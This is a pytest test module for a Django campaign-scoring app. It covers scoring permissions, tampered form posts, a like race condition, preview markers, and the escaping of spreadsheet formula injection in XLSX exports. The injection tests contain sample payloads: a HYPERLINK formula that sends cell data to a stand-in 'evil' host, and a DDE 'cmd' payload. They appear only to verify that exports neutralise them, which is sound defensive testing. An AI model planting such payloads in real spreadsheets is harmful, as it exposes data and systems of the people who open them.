"""Review fixes in campaigns: officers are scored by the committee, tampered posts, formula
injection in the XLSX, a double-tapped like, and the unpublished preview marker."""

from __future__ import annotations

import datetime
import io
from decimal import Decimal
from unittest import mock

import pytest
from django.core.exceptions import PermissionDenied
from django.db.models.query import QuerySet
from django.urls import reverse
from openpyxl import load_workbook

from campaigns import permissions, services
from campaigns.models import Campaign, Criterion, ScoreSheet, Story, StoryLike
from members.models import Post
from members.scoping import access_for

from .conftest import open_campaign, score_all, sheet_of
from .test_admin_scoring import grid_url, points_of, sheet_post, sheet_url


@pytest.fixture
def second_officer(org):
    """member_a becomes the organisation member of branch A: a second branch officer."""
    Post.objects.create(
        member=org.member_a,
        unit=org.branch_a,
        kind=Post.Kind.ORGANISATION,
        start_on=datetime.date(2024, 1, 1),
    )
    return org.member_a


def lines(campaign, values):
    criteria = campaign.criteria.order_by("order")
    return {c.pk: services.Line(points=str(v)) for c, v in zip(criteria, values, strict=True)}


# --- 2. the committee scores the secretaries; other officers are scored by the secretary --
def test_no_officer_of_the_branch_scores_its_secretary(campaign, org, second_officer):
    officer = access_for(second_officer.user)
    secretary_sheet = sheet_of(campaign, member=org.secretary_a)
    assert permissions.editable_field(officer, secretary_sheet) is None
    with pytest.raises(PermissionDenied):
        services.sheet_save(
            sheet=secretary_sheet,
            access=officer,
            by=second_officer.user,
            version=0,
            lines=lines(campaign, [1, 1, 1]),
        )
    assert not points_of(secretary_sheet)


def test_the_secretary_scores_a_fellow_officer_but_not_themselves(campaign, org, second_officer):
    secretary = access_for(org.secretary_a.user)
    officer_sheet = sheet_of(campaign, member=second_officer)
    assert permissions.editable_field(secretary, officer_sheet)
    assert permissions.editable_field(secretary, sheet_of(campaign, member=org.secretary_a)) is None
    assert permissions.editable_field(access_for(second_officer.user), officer_sheet) is None
    services.sheet_save(
        sheet=officer_sheet, access=secretary, by=org.secretary_a.user, version=0,
        lines=lines(campaign, [2, 2, 2]),
    )  # fmt: skip
    assert points_of(officer_sheet) == [Decimal("2")] * 3


def test_the_organiser_scores_the_secretary(campaign, org, second_officer):
    organiser = access_for(org.organiser.user)
    sheet = sheet_of(campaign, member=org.secretary_a)
    assert permissions.editable_field(organiser, sheet) == permissions.COMMITTEE
    services.sheet_save(
        sheet=sheet, access=organiser, by=org.organiser.user, version=0,
        lines=lines(campaign, [5, 5, 5]),
    )  # fmt: skip
    assert points_of(sheet) == [Decimal("5")] * 3


def test_grid_shows_the_secretary_row_read_only_to_another_officer(
    campaign, org, client_for, second_officer
):
    client = client_for("member_a")  # the branch's organisation member
    secretary_sheet = sheet_of(campaign, member=org.secretary_a)
    plain_sheet = sheet_of(campaign, member=org.organiser)
    criteria = list(campaign.criteria.order_by("order"))
    page = client.get(grid_url(campaign, org.branch_a))
    assert page.status_code == 200
    assert org.secretary_a.name in page.text  # listed
    assert f'name="s{secretary_sheet.pk}-c{criteria[0].pk}"' not in page.text  # not an input
    assert f'name="s{plain_sheet.pk}-c{criteria[0].pk}"' in page.text
    # The form posts the read-only row anyway: it is ignored, the editable row is saved.
    data = {f"v{plain_sheet.pk}": 0, f"v{secretary_sheet.pk}": 0}
    for criterion in criteria:
        data[f"s{plain_sheet.pk}-c{criterion.pk}"] = "3"
        data[f"s{secretary_sheet.pk}-c{criterion.pk}"] = "9"
    assert client.post(grid_url(campaign, org.branch_a), data).status_code == 302
    assert points_of(plain_sheet) == [Decimal("3")] * 3
    assert not points_of(secretary_sheet)
    # The grid service refuses the row too, whoever calls it.
    with pytest.raises(PermissionDenied):
        services.sheets_save_grid(
            campaign=campaign,
            unit=org.branch_a,
            access=access_for(second_officer.user),
            by=second_officer.user,
            rows={secretary_sheet.pk: (0, lines(campaign, [1, 1, 1]))},
        )
    assert not points_of(secretary_sheet)


def test_secretary_sheet_page_is_read_only_for_another_officer(
    campaign, org, client_for, second_officer
):
    client = client_for("member_a")
    sheet = sheet_of(campaign, member=org.secretary_a)
    assert client.get(sheet_url(sheet)).status_code == 200
    response = client.post(sheet_url(sheet), sheet_post(campaign, sheet, ["1", "1", "1"]))
    assert response.status_code == 403
    assert not points_of(sheet)


# --- 4. tampered posts: a message, nothing saved -----------------------------------------
@pytest.mark.parametrize("version", ["abc", "", "-1", "1.0", "٠"])
def test_malformed_version_counts_as_stale(campaign, org, client_for, version):
    sheet = sheet_of(campaign, member=org.member_a)
    response = client_for("secretary_a").post(
        sheet_url(sheet), sheet_post(campaign, sheet, ["1", "1", "1"], version=version), follow=True
    )
    assert response.status_code == 200
    assert "changed by someone else" in response.text
    assert not points_of(sheet)
    assert ScoreSheet.objects.get(pk=sheet.pk).version == 0


def test_missing_version_counts_as_stale(campaign, org, client_for):
    sheet = sheet_of(campaign, member=org.member_a)
    data = sheet_post(campaign, sheet, ["1", "1", "1"])
    del data["version"]
    response = client_for("secretary_a").post(sheet_url(sheet), data, follow=True)
    assert response.status_code == 200
    assert "changed by someone else" in response.text
    assert not points_of(sheet)


@pytest.mark.parametrize("count", ["x", "-1", "51", "1e3"])
def test_tampered_adjustment_count_is_refused_with_a_message(campaign, org, client_for, count):
    sheet = sheet_of(campaign, member=org.member_a)
    data = sheet_post(campaign, sheet, ["1", "1", "1"])
    data["adj-count"] = count
    response = client_for("secretary_a").post(sheet_url(sheet), data)
    assert response.status_code == 200
    assert "The form was not sent as the page made it" in response.text
    assert "政治学习" in response.text  # the form is shown again
    assert not points_of(sheet)


@pytest.mark.parametrize("version", ["zz", "", None])
def test_tampered_grid_version_is_refused_as_stale(campaign, org, client_for, version):
    sheet = sheet_of(campaign, member=org.member_a)
    data = {f"s{sheet.pk}-c{c.pk}": "2" for c in campaign.criteria.all()}
    if version is not None:
        data[f"v{sheet.pk}"] = version
    response = client_for("secretary_a").post(grid_url(campaign, org.branch_a), data, follow=True)
    assert response.status_code == 200
    assert "changed by someone else" in response.text
    assert not points_of(sheet)


def test_services_treat_a_malformed_version_as_stale(campaign, org):
    sheet = sheet_of(campaign, member=org.member_a)
    access = access_for(org.secretary_a.user)
    with pytest.raises(services.StaleSheet):
        services.sheet_save(
            sheet=sheet, access=access, by=org.secretary_a.user, version="abc",
            lines=lines(campaign, [1, 1, 1]),
        )  # fmt: skip
    with pytest.raises(services.StaleSheet):
        services.sheets_save_grid(
            campaign=campaign, unit=org.branch_a, access=access, by=org.secretary_a.user,
            rows={sheet.pk: ("zz", lines(campaign, [1, 1, 1]))},
        )  # fmt: skip
    assert not points_of(sheet)
    assert services.read_version("7") == 7
    assert services.read_version(None) == services.read_version("x") == -1


# --- 3. formula injection in the results workbook -----------------------------------------
def test_criterion_named_like_a_formula_is_text_in_the_xlsx(org, client_for):
    campaign = open_campaign(org, quarter=2)
    evil = '=HYPERLINK("http://evil/?"&B3,"x")'
    Criterion.objects.filter(campaign=campaign, order=0).update(name=evil)
    org.member_a.name = "\t=1+1"
    org.member_a.save()
    score_all(campaign, org, {org.member_a: [1, 2, 3]})
    services.campaign_close(campaign=campaign, by=org.organiser.user)
    services.campaign_publish(campaign=campaign, by=org.organiser.user)
    response = client_for("organiser").get(reverse("campaigns:xlsx", args=[campaign.pk]))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    values = [cell.value for cell in cells]
    assert f"'{evil} (10)" in values
    assert "'\t=1+1" in values


def test_plan_export_writes_formula_text_as_text(org, client_for):
    from lessons.models import PlanItem, PlanUnit, StudyPlan

    plan = StudyPlan.objects.create(
        title="\r=cmd|' /C calc'!A0", unit=org.committee, due_on=datetime.date(2026, 12, 31)
    )
    PlanUnit.objects.create(plan=plan, unit=org.committee)
    org.branch_a.name = "@SUM(1+1)"
    org.branch_a.save()
    response = client_for("organiser").get(reverse("lessons:plan_export", args=[plan.pk]))
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    cells = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    values = {cell.value for cell in cells}
    # XML reads the carriage return back as a newline; the apostrophe is what matters.
    assert book.worksheets[0]["A1"].value.startswith("'")
    assert "'@SUM(1+1)" in values
    assert PlanItem.objects.count() == 0


# --- 5. a double-tapped like ----------------------------------------------------------------
def test_story_like_double_tap_race_counts_as_liked(org):
    story = services.story_nominate(
        member=org.member_a, by=org.member_b.user, category="exemplar", title="岗位标兵", body="…"
    )
    services.stories_set_status(
        stories=Story.objects.filter(pk=story.pk),
        status=Story.Status.PUBLISHED,
        by=org.organiser.user,
    )
    user = org.member_b.user
    StoryLike.objects.create(story=story, user=user)  # the other tap's row, committed first
    # This tap saw no like to take back (the other tap had not committed yet).
    with mock.patch.object(QuerySet, "delete", return_value=(0, {})):
        assert services.story_like(story=story, user=user) is True
    assert StoryLike.objects.filter(story=story, user=user).count() == 1
    assert services.story_like(story=story, user=user) is False  # a later tap unlikes
    assert not StoryLike.objects.exists()


# --- 6. an unpublished ranking is marked as a preview -------------------------------------
@pytest.fixture
def in_review(org):
    campaign = open_campaign(org, quarter=1)
    score_all(campaign, org, {org.member_a: [1, 2, 3], org.secretary_a: [3, 2, 1]})
    services.campaign_close(campaign=campaign, by=org.organiser.user)
    campaign.refresh_from_db()
    assert campaign.status == Campaign.Status.REVIEW
    return campaign


def test_unpublished_print_page_and_xlsx_say_preview(in_review, org, client_for):
    client = client_for("organiser")
    page = client.get(reverse("campaigns:print", args=[in_review.pk]))
    assert page.status_code == 200
    assert "Not published — preview" in page.text
    response = client.get(reverse("campaigns:xlsx", args=[in_review.pk]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet.title == "Preview"
    assert sheet["A1"].value == "Not published — preview"
    assert sheet["A2"].value == str(in_review)
    subjects = [row[1] for row in sheet.iter_rows(min_row=4, values_only=True)]
    assert {org.member_a.name, org.secretary_a.name} <= set(subjects)


def test_published_print_page_and_xlsx_have_no_preview_marker(in_review, org, client_for):
    services.campaign_publish(campaign=in_review, by=org.organiser.user)
    client = client_for("organiser")
    page = client.get(reverse("campaigns:print", args=[in_review.pk]))
    assert "Not published" not in page.text
    response = client.get(reverse("campaigns:xlsx", args=[in_review.pk]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet.title == "Results"
    assert sheet["A1"].value == str(in_review)
